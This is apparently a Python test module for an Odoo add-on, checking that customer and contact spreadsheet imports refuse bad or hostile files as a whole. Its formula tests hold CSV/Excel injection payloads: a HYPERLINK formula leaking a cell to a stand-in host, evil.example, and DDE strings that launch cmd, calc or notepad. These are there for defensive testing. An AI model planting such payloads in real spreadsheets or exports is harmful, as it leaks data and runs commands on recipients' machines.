"""sec_import: malformed and hostile Excel (and CSV) imports of customers
and contacts through Odoo's import screen (base_import), as a customer
manager (C5, B2). Every bad file is refused as a whole with a message that
says what to correct, and nothing of it is imported; a clean file with the
same layout goes through."""

import io

import openpyxl
import xlsxwriter

from odoo.tests import tagged
from odoo.tools import mute_logger

from .common import SECURITY_LOGGER, SecurityCommon

XLSX_MIMETYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
HEADERS = [
    "Name",
    "Is a Company",
    "Customer Level",
    "Zip",
    "Country",
    "Street",
    "Contact/Name",
    "Contact/Gender",
    "Contact/Job Position",
    "Contact/Phone",
    "Contact/Mobile",
    "Contact/Email",
]
MARK = "Sec Import"


def good_row(index=1, **overrides):
    row = {
        "Name": f"{MARK} Customer {index}",
        "Is a Company": "True",
        "Customer Level": "Major Account",
        "Zip": "200120",
        "Country": "CN",
        "Street": "Zhangjiang Road 1",
        "Contact/Name": f"{MARK} Contact {index}",
        "Contact/Gender": "male",
        "Contact/Job Position": "Purchasing Manager",
        "Contact/Phone": "+86 21-5000 0001",
        "Contact/Mobile": "+86 138 0013 8000",
        "Contact/Email": f"buyer{index}@example.com",
    }
    row.update(overrides)
    return [row[header] for header in HEADERS]


def xlsx_file(rows, formulas=()):
    """rows of strings, written as text cells; ``formulas``: (row, col,
    formula, cached value) written as real formula cells."""
    buffer = io.BytesIO()
    book = xlsxwriter.Workbook(
        buffer, {"in_memory": True, "strings_to_formulas": False}
    )
    sheet = book.add_worksheet()
    for row_index, row in enumerate([HEADERS] + rows):
        for col_index, value in enumerate(row):
            if value != "":
                sheet.write_string(row_index, col_index, value)
    for row_index, col_index, formula, value in formulas:
        sheet.write_formula(row_index, col_index, formula, None, value)
    book.close()
    return buffer.getvalue()


def openpyxl_file(rows):
    """Excel's own writer refuses cells over 32,767 characters; a hostile
    file is not made by Excel."""
    book = openpyxl.Workbook()
    sheet = book.active
    for row in [HEADERS] + rows:
        sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


@tagged("post_install", "-at_install")
class TestSecImport(SecurityCommon):
    probes = 0

    @classmethod
    def tearDownClass(cls):
        summary = (
            f"sec_import: {cls.probes} hostile or malformed files refused, "
            "nothing imported"
        )
        SECURITY_LOGGER.info(summary)
        super().tearDownClass()

    def _options(self, **extra):
        return {
            "has_headers": True,
            "quoting": '"',
            "separator": ",",
            "float_thousand_separator": ",",
            "float_decimal_separator": ".",
            "date_format": "",
            "datetime_format": "",
            "encoding": "utf-8",
            "keep_matches": False,
            "name_create_enabled_fields": {},
            "import_set_empty_fields": [],
            "import_skip_records": [],
            "fallback_values": {},
            "limit": 2000,
            "skip": 0,
            "advanced": True,
            **extra,
        }

    def _import(self, content, file_type=XLSX_MIMETYPE, file_name="customers.xlsx"):
        """Import ``content`` for real (not a dry run) as the customer
        manager, from the Customers menu. Returns the error messages."""
        importer = (
            self.env["base_import.import"]
            .with_user(self.customer_manager)
            .with_context(
                res_partner_search_mode="customer",
                default_is_company=True,
                default_user_id=self.customer_manager.id,
            )
            .create(
                {
                    "res_model": "res.partner",
                    "file": content,
                    "file_name": file_name,
                    "file_type": file_type,
                }
            )
        )
        fields = [
            "name",
            "is_company",
            "customer_level_id",
            "zip",
            "country_id",
            "street",
            "child_ids/name",
            "child_ids/gender",
            "child_ids/function",
            "child_ids/phone",
            "child_ids/mobile",
            "child_ids/email",
        ]
        with mute_logger("odoo.addons.base_import.models.base_import", "odoo.sql_db"):
            result = importer.execute_import(fields, HEADERS, self._options())
        return [
            m["message"] for m in result.get("messages", []) if m.get("type") == "error"
        ]

    def _imported(self):
        return (
            self.env["res.partner"]
            .with_context(active_test=False)
            .search([("name", "=like", f"{MARK}%")])
        )

    def _refused(self, content, *expected, **kwargs):
        type(self).probes += 1
        errors = self._import(content, **kwargs)
        self.assertTrue(errors, "the file was accepted")
        text = " ".join(str(error) for error in errors)
        for fragment in expected:
            self.assertIn(fragment, text)
        self.assertFalse(self._imported(), f"something was imported: {text}")
        return text

    def test_sec_import_clean_file_goes_through(self):
        """The baseline: the same layout imports, numbers starting with +
        included."""
        errors = self._import(xlsx_file([good_row(1), good_row(2)]))
        self.assertFalse(errors, errors)
        customers = self._imported().filtered("is_company")
        self.assertEqual(len(customers), 2)
        self.assertEqual(
            customers.child_ids.mapped("mobile"),
            ["+86 138 0013 8000", "+86 138 0013 8000"],
        )

    def test_sec_import_bad_rows_refuse_the_whole_file(self):
        bad_rows = {
            "mobile": good_row(2, **{"Contact/Mobile": "12345"}),
            "email": good_row(2, **{"Contact/Email": "not-an-email"}),
            "postcode": good_row(2, Zip="20012"),
            "gender": good_row(2, **{"Contact/Gender": ""}),
            "job position": good_row(2, **{"Contact/Job Position": ""}),
            "name length": good_row(2, Name=f"{MARK} " + "长" * 60),
            "level": good_row(2, **{"Customer Level": "No Such Level"}),
            "company flag": good_row(2, **{"Is a Company": "perhaps"}),
            "country": good_row(2, Country="Atlantis"),
        }
        for reason, bad in bad_rows.items():
            with self.subTest(reason=reason):
                self._refused(xlsx_file([good_row(1), bad, good_row(3)]))

    def test_sec_import_formula_text_refused(self):
        payloads = [
            ("Name", '=HYPERLINK("http://evil.example/?leak="&A2,"Click for details")'),
            ("Contact/Job Position", "=cmd|' /C calc'!A0"),
            ("Street", "+cmd|' /C notepad'!A0"),
            ("Contact/Name", "-2+3+cmd|' /C calc'!A0"),
            ("Contact/Name", "@SUM(1+9)*cmd|' /C calc'!A0"),
            ("Street", " \t=1+1"),
            ("Contact/Phone", "=1+1"),
        ]
        for column, payload in payloads:
            with self.subTest(payload=payload):
                text = self._refused(
                    xlsx_file([good_row(1), good_row(2, **{column: payload})]),
                    "formula",
                    "Row 3",
                    column,
                )
                self.assertIn("Nothing was imported", text)

    def test_sec_import_formula_cells_refused(self):
        """Real formula cells would import as their last computed value,
        silently."""
        formulas = [
            (
                2,
                0,
                '=HYPERLINK("http://evil.example","Sec Import Click")',
                "Sec Import Click",
            ),
            (2, 8, "=cmd|' /C calc'!A0", "Buyer"),
            (1, 3, "=100000+100120", 200120),
        ]
        for formula in formulas:
            with self.subTest(formula=formula[2]):
                self._refused(
                    xlsx_file([good_row(1), good_row(2)], formulas=[formula]),
                    "formula",
                    "Nothing was imported",
                )

    def test_sec_import_oversized_cells_refused(self):
        # The spreadsheet readers cut the cell to 32,767 characters: the
        # import notices and refuses the file.
        self._refused(
            openpyxl_file([good_row(1, Street="路" * 40000)]), "32767", "Street"
        )
        self._refused(
            openpyxl_file([good_row(1), good_row(2, Name=f"{MARK} " + "X" * 32000)])
        )
        self._refused(xlsx_file([good_row(1, **{"Contact/Name": "张" * 32767})]))

    def test_sec_import_csv_formula_refused(self):
        lines = [",".join(HEADERS)]
        lines.append(",".join(good_row(1)))
        lines.append(",".join(good_row(2, Street='=HYPERLINK("http://evil.example")')))
        content = "\n".join(lines).encode()
        self._refused(
            content, "formula", file_type="text/csv", file_name="customers.csv"
        )

    def test_sec_import_not_a_spreadsheet_refused(self):
        for content in (b"PK\x03\x04garbage" + bytes(range(256)), b"\x00\xff" * 500):
            with self.subTest(content=content[:8]):
                type(self).probes += 1
                with mute_logger("odoo.addons.base_import.models.base_import"):
                    try:
                        errors = self._import(content)
                    except Exception as error:  # noqa: BLE001 - a refusal is what we want
                        errors = [str(error)]
                self.assertTrue(errors)
                self.assertFalse(self._imported())
